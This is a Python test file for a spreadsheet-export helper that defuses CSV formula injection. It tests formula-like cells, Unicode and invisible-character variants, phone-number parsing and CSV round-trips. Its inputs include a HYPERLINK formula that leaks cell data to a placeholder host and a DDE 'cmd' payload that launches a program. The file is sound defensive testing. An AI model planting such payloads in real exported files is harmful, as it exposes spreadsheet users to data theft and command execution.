"""A table that a spreadsheet opens with a double click, and of which it runs nothing."""

import csv
import io

import pytest

from campaigns.rules.addresses import Phone, PhoneKind, read_phone
from campaigns.rules.spreadsheet import harmless, write

STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://x.example?"&A1)',
    "+1+1",
    "-1+1",
    "-2-3",
    "--1",
    "- Rosa",
    "-@x",
    "-1|2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\u3000=1",
    "\ufeff=1",
    "\u200b=1",
    "\u202e=1",
    "\0=1",
    "＝1",
    "＋1",
    "－1",
    " ＠x",
    "=cmd|' /C calc'!A0",
    "+51987654321",
    "+51 987 654 321",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_looks_like_a_formula_is_text(text):
    assert harmless(text).startswith(f"'{text[0]}")
    assert harmless(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Aviso",
        "Aviso = urgente",
        "'=1",
        "1+1",
        "ñandú",
        "“=”",
        "-5",
        "-12.50",
        "-1,5",
        "-",
        "--",
        "—",
        "987 654 321",
    ],
)
def test_everything_else_stays_as_it_is(text):
    assert harmless(text) == text


@pytest.mark.parametrize("number", ["+51987654321", "+51 987 654 321"])
def test_a_number_that_was_made_harmless_is_read_again(number):
    assert read_phone(harmless(number)) == read_phone(number) == Phone("+51987654321", PhoneKind.MOBILE)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_formula_begins_a_cell_whatever_delimiter_a_program_takes(delimiter):
    rows = [(f"Rosa;{formula}", formula, f"x\t{formula}", 1) for formula in FORMULAS]
    text = write(rows).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    assert [cell for cell in cells if cell.lstrip(' "\0\u3000\u00a0\ufeff\u200b\u202e').startswith(STARTS)] == []


def test_cells_come_back_as_they_were():
    rows = [("a", 'b "c", d'), (), ("línea\nnueva", None), (-5, 0), ("=2", "Ñ")]
    written = write(rows)
    assert written.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline="")))
    assert read == [["a", 'b "c", d'], [], ["línea\nnueva", ""], ["-5", "0"], ["'=2", "Ñ"]]
